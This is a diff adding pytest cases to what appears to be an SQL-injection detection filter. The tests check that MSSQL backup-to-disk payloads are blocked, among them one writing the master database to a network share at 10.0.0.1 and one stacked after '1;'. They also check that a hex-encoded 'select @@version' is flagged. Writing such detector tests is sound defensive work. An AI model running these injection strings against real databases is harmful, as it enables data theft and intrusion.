@@ -581,3 +581,21 @@ def test_numbers_computed_from_text_measures_block(value: str) -> None:
 @pytest.mark.parametrize("value", ["2+sqrt(4)", "3*sin(30)", "len(x)+1", "10 + len(s)", "1 len(3)"])
 def test_calculator_and_code_expressions_pass(value: str) -> None:
     assert not blocks(value), analyse(value)
+
+
+@pytest.mark.parametrize("value", ["BACKUP database master to disks='\\\\\\\\10.0.0.1\\\\x\\\\db.dat'",
+                                   "backup database master to disk='c:\\\\x.bak'", "1;backup database master to disk='x'--"])
+def test_backup_to_a_device_path_blocks(value: str) -> None:
+    assert blocks(value), analyse(value)
+
+
+@pytest.mark.parametrize("value", ["backup database daily to the cloud", "restore database from backup",
+                                   "backup log to disk", "backup database = good idea"])
+def test_backup_in_prose_passes(value: str) -> None:
+    assert not blocks(value), analyse(value)
+
+
+def test_a_statement_spelt_in_hex_blocks_even_cut_off() -> None:
+    v = analyse("0x730065006c0065006300740020004000400076006500 ...")  # UTF-16LE "select @@ve", then cut
+    assert v is not None and v.rule == "hex-statement" and v.severity is Severity.HIGH
+    assert not blocks("0x73656c65637420746865206265737420 ...")  # "select the best ": prose spelt in hex
